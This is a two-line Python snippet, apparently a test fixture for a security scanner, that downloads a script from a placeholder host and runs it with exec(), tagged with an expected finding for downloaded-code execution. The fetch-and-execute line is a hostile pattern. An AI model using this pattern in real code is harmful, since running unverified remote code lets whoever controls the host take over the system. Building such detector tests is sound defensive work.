import urllib.request

exec(urllib.request.urlopen("https://code.example.invalid/toy.py").read())  # expect: source/exec-of-download import
